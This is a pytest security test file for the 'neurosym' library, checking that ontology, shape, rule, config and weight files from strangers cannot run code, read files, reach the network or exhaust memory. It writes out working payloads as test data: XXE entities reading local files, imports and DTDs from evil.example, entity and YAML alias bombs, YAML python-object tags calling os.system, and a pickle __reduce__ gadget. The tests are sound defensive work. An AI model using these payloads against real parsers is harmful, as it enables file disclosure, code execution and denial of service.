"""What a file from a stranger may not do: run code, read other files, reach the network, grow without bound."""

from __future__ import annotations

import pickle
import socket
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest

from neurosym.errors import ConfigError, NeurosymError, TrainingError
from neurosym.induction.kg.store import TripleStore
from neurosym.knowledge import load_knowledge
from neurosym.knowledge.shapes import check_shapes
from neurosym.learning.config import load_config
from neurosym.learning.predict import predict
from neurosym.learning.runfolder import open_run
from neurosym.learning.train import train
from tests.learning.test_train import config_of

SECRET = "the patient's name"
RDF = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:owl="http://www.w3.org/2002/07/owl#" '
    'xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#">{}</rdf:RDF>'
)
LABEL = RDF.format('<owl:Class rdf:about="http://x/a"><rdfs:label>&e;</rdfs:label></owl:Class>')
GROWING = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
SHAPE = """
@prefix sh: <http://www.w3.org/ns/shacl#> . @prefix x: <http://x/> .
x:shape a sh:NodeShape ; sh:targetClass x:A ; {} .
"""


class Payload:
    """Unpickled, it writes a file."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return Path.touch, (self.mark,)


@pytest.fixture(autouse=True)
def no_connection(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Fails a test that has tried to reach the network."""
    tried: list[object] = []

    def refuse(*args: object, **_: object) -> None:
        tried.append(args)
        raise OSError("a connection was tried")

    for name in ("create_connection", "getaddrinfo"):
        monkeypatch.setattr(socket, name, refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    yield tried
    assert not tried


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.mark.parametrize(
    ("suffix", "text"),
    [
        (".rdf", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>' + LABEL),
        (".owl", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>' + LABEL),
        (".rdf", f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{GROWING}]>' + LABEL.replace("&e;", "&e9;")),
        (
            ".owx",
            '<?xml version="1.0"?><!DOCTYPE Ontology [<!ENTITY e SYSTEM "file://{secret}">]>'
            '<Ontology xmlns="http://www.w3.org/2002/07/owl#" ontologyIRI="http://x/&e;"/>',
        ),
        (
            ".ttl",
            "@prefix owl: <http://www.w3.org/2002/07/owl#> . "
            "<http://x/o> a owl:Ontology ; owl:imports <http://evil.example/o.ttl>, <file://{secret}> .",
        ),
        (".omn", "Prefix: : <http://x/>\nOntology: <http://x/o>\nImport: <http://evil.example/o>\nClass: A\n"),
        (".ofn", "Prefix(:=<http://x/>)\nOntology(<http://x/o>\nImport(<file://{secret}>)\nDeclaration(Class(:A))\n)"),
        (".obo", "format-version: 1.2\nontology: x\nimport: http://evil.example/x.obo\n\n[Term]\nid: X:1\nname: a\n"),
        (".jsonld", '{{"@context": "http://evil.example/context.jsonld", "@id": "http://x/a"}}'),
        (".jsonld", '{{"@context": "file://{secret}", "@id": "http://x/a"}}'),
    ],
    ids=["entity", "dtd", "bomb", "owl-xml", "turtle", "manchester", "functional", "obo", "context", "local-context"],
)
def test_an_ontology_reads_nothing_from_elsewhere_and_says_so(
    suffix: str, text: str, tmp_path: Path, secret: Path
) -> None:
    path = tmp_path / f"stranger{suffix}"
    path.write_text(text.replace("{secret}", str(secret)).replace("{{", "{").replace("}}", "}"))
    with pytest.raises(NeurosymError) as refusal:
        load_knowledge([path])
    assert SECRET not in str(refusal.value)
    assert f"stranger{suffix}" in str(refusal.value)


@pytest.mark.parametrize(
    "shape",
    [
        'sh:sparql [ sh:select "SELECT $this WHERE {{ SERVICE <http://evil.example/sparql> {{ $this ?p ?o }} }}" ]',
        'sh:js [ sh:jsFunctionName "f" ; sh:jsLibrary [ sh:jsLibraryURL "http://evil.example/f.js" ] ]',
    ],
    ids=["service", "script"],
)
def test_a_shape_asks_nobody_and_runs_no_script(shape: str, tmp_path: Path) -> None:
    path = tmp_path / "stranger.ttl"
    path.write_text(SHAPE.format(shape.replace("{{", "{").replace("}}", "}")))
    ontology = load_knowledge([Path(__file__).parents[1] / "ontologies/blood.ttl"]).ontology
    with pytest.raises(NeurosymError, match="stranger.ttl"):
        check_shapes(ontology, [path])


@pytest.mark.parametrize(
    "text",
    [
        "a(X) :- " + "(" * 5000 + "b(X)" + ")" * 5000 + ".",
        "a(X) :- " + ", ".join(f"b{i}(X)" for i in range(20_000)) + ".",
        "a(X) :- b(X), X > " + "9" * 100_000 + ".",
        "a(X) :- b(X, Y), Y > 9**9**9.",
        ':- include("/etc/passwd").',
        "a(X) :- shell('touch pwned').",
    ],
    ids=["depth", "length", "digits", "power", "include", "call"],
)
def test_a_rule_file_is_bounded_and_calls_nothing(text: str, tmp_path: Path) -> None:
    path = tmp_path / "stranger.rules"
    path.write_text(text)
    with pytest.raises(NeurosymError, match="stranger.rules:1"):
        load_knowledge([Path(__file__).parents[1] / "ontologies/blood.ttl", path])


def test_a_config_makes_no_objects(tmp_path: Path) -> None:
    path = tmp_path / "stranger.yaml"
    path.write_text(
        f"name: !!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path [{tmp_path}/pwned]]"
    )
    with pytest.raises(ConfigError, match=r"stranger.yaml:1:7"):
        load_config(path)
    with pytest.raises(ConfigError, match="not a YAML value"):
        load_config(
            Path(__file__).parents[1] / "experiments/overfit/config.yaml", [f"name=!!python/name:os.system {path}"]
        )
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (
            "\n".join(["a0: &a0 [x, x]", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12))]),
            "aliases",
        ),
        ("name: &a [*a]", "aliases"),
        ("name: " + "[" * 5000 + "]" * 5000, "nested too deeply"),
    ],
    ids=["growing", "endless", "deep"],
)
def test_a_config_that_would_take_all_memory_is_refused_before_it_does(text: str, why: str, tmp_path: Path) -> None:
    path = tmp_path / "stranger.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError, match=rf"stranger.yaml.*{why}"):
        load_config(path)
    (tmp_path / "run").mkdir()
    (tmp_path / "run/config.yaml").write_text(text)
    with pytest.raises(TrainingError, match="not a run folder"):
        open_run(tmp_path / "run")


def test_weights_are_never_unpickled(tmp_path: Path) -> None:
    mark = tmp_path / "pwned"
    code = pickle.dumps(Payload(mark))
    pickle.loads(code)
    assert mark.exists()  # it would work
    mark.unlink()

    train(config_of(tmp_path), tmp_path / "run")
    checkpoint = next((tmp_path / "run/checkpoints").iterdir())
    (checkpoint / "model.safetensors").write_bytes(code)
    with pytest.raises(TrainingError, match="weights cannot be read"):
        predict(open_run(tmp_path / "run"), [])
    (checkpoint / "training.safetensors").write_bytes(code)
    with pytest.raises(TrainingError, match="checkpoint cannot be read"):
        train(config_of(tmp_path), tmp_path / "run", resume=True)
    (tmp_path / "backbone.safetensors").write_bytes(code)
    with pytest.raises(NeurosymError, match=r"backbone.safetensors"):
        train(config_of(tmp_path, "model.weights=backbone.safetensors"), tmp_path / "other")
    assert not mark.exists()


def test_a_link_that_lies_in_a_run_folder_is_replaced_and_not_written_through(tmp_path: Path, secret: Path) -> None:
    (tmp_path / "run").mkdir()
    for name in ("config.yaml", "constraints.json"):
        (tmp_path / "run" / name).symlink_to(secret)
    train(config_of(tmp_path, "train.steps=1"), tmp_path / "run")
    assert secret.read_text() == SECRET
    assert not (tmp_path / "run/config.yaml").is_symlink()


def test_numpy_files_of_a_stored_graph_are_read_without_pickles(tmp_path: Path) -> None:

    mark = tmp_path / "pwned"
    folder = tmp_path / "stored"
    TripleStore.of([("a", "r", "b"), ("b", "r", "c")]).write(folder)
    for file in folder.glob("*.npy"):
        np.save(file, np.array([Payload(mark)], dtype=object), allow_pickle=True)
    with pytest.raises(NeurosymError, match="stored"):
        TripleStore.open(folder)
    assert not mark.exists()
